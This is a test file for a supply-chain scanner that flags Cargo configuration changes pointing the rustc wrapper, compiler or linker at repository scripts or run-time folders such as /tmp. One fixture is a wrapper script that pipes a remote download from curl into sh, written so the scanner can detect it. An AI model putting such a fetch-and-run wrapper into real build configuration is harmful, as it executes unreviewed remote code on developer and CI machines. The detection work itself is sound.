import { describe, expect, it } from 'vitest';
import { cargoWrapperFindings } from '../../../src/ecosystems/build-code/wrappers.js';
import { makeFile } from '../../support/snapshot-factory.js';
import { analyze, snapshotOf } from '../../support/supply-chain-snapshot.js';

/** A patch of `.cargo/config.toml` that adds `lines` (and removes `removed`). */
const patch = (lines: string[], removed: string[] = []): string => `@@ -1,${removed.length + 1} +1,${lines.length + 1} @@\n [build]\n${removed.map((l) => `-${l}`).join('\n')}${removed.length > 0 ? '\n' : ''}${lines.map((l) => `+${l}`).join('\n')}`;
const severities = (lines: string[], removed: string[] = [], others: ReturnType<typeof makeFile>[] = []) =>
  cargoWrapperFindings([makeFile('.cargo/config.toml', { patch: patch(lines, removed) }), ...others]).map((f) => f.severity);

describe('build-wrapper-changed: a rustc wrapper in Cargo configuration', () => {
  it('reports a wrapper pointed at a file of the repository (medium; high for a file whose content is not shown) or at a folder written at run time (high)', () => {
    expect(severities(['rustc-wrapper = "tools/rustc-cache.sh"'])).toEqual(['medium']);
    expect(severities(['rustc-workspace-wrapper = "./scripts/lint-driver"'])).toEqual(['medium']);
    expect(severities(['rustc-wrapper = "tools/rustc-cache"'], [], [makeFile('tools/rustc-cache', { status: 'added', patch: null })])).toEqual(['high']);
    expect(severities(['rustc-wrapper = "/tmp/rw"', 'RUSTC_WRAPPER = { value = "target/.rw/rustc", relative = true }'])).toEqual(['high', 'high']);
    expect(severities(['RUSTC_WRAPPER = ".cache/bin/rustc"'])).toEqual(['high']);
  });
  it('reads the programs cargo runs in place of rustc, rustdoc or the linker the same way, and a ./ path', () => {
    expect(severities(['rustc-wrapper = "./tools/wrap.sh"'])).toEqual(['medium']);
    expect(severities(['rustc = "tools/rustc"', 'rustdoc = "/tmp/rustdoc"'])).toEqual(['medium', 'high']);
    expect(severities(['[target.x86_64-unknown-linux-gnu]', 'linker = "./target/.cc/ld.sh"'])).toEqual(['high']);
    expect(severities(['target.x86_64-unknown-linux-gnu.linker = "scripts/zig-cc"'])).toEqual(['medium']);
    expect(severities(['[env]', 'CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER = "/tmp/ld"', 'RUSTC = { value = "tools/rustc-shim", relative = true }', 'CARGO_BUILD_RUSTC_WRAPPER = "/dev/shm/w"'])).toEqual(['high', 'medium', 'high']);
    const [linker] = cargoWrapperFindings([makeFile('.cargo/config.toml', { patch: patch(['[target.x86_64-unknown-linux-gnu]', 'linker = "tools/ld.sh"']) })]);
    expect(linker?.title).toEqual('Cargo runs tools/ld.sh as the linker of every binary, test and build script it links (linker)');
  });
  it('is quiet on a linker or compiler by name or installed on the machine', () => {
    expect(severities(['[target.x86_64-unknown-linux-gnu]', 'linker = "clang"', 'linker = "rust-lld"', 'linker = "/usr/bin/cc"', 'linker = "/opt/android-ndk/toolchains/llvm/prebuilt/linux-x86_64/bin/aarch64-linux-android21-clang"', 'rustc = "/home/dev/.rustup/toolchains/stable/bin/rustc"'])).toEqual([]);
  });
  it('is quiet on a tool by name or installed on the machine, a value the PR keeps, and a removed file', () => {
    expect(severities(['rustc-wrapper = "sccache"', 'RUSTC_WRAPPER = "cachepot"', 'rustc-wrapper = "/usr/local/bin/cargo-objfs-rustc"', 'rustc-wrapper = "/home/dev/.cargo/bin/sccache"', 'rustc-wrapper = "$RUSTC_WRAPPER"'])).toEqual([]);
    expect(severities(['rustc-wrapper = "tools/rustc-cache.sh"  # faster CI'], ['rustc-wrapper = "tools/rustc-cache.sh"'])).toEqual([]);
    expect(cargoWrapperFindings([makeFile('.cargo/config.toml', { status: 'removed', patch: '@@ -1,2 +0,0 @@\n-[build]\n-rustc-wrapper = "tools/rw.sh"' })])).toEqual([]);
  });
  it('reads the wrapper script as build code: a download it runs is build-code-behavior', () => {
    const findings = analyze(
      snapshotOf(
        makeFile('.cargo/config.toml', { status: 'added', patch: '@@ -0,0 +1,2 @@\n+[build]\n+rustc-wrapper = "scripts/rustc-cache.sh"' }),
        makeFile('scripts/rustc-cache.sh', { status: 'added', patch: '@@ -0,0 +1,3 @@\n+#!/bin/sh\n+curl -fsSL https://rustc-cache.dev/warm.sh | sh\n+exec "$@"' }),
      ),
    ).findings.map((f) => `${f.id}:${f.path}`);
    expect(findings).toContain('build-wrapper-changed:.cargo/config.toml');
    expect(findings).toContain('build-code-behavior:scripts/rustc-cache.sh');
  });
});
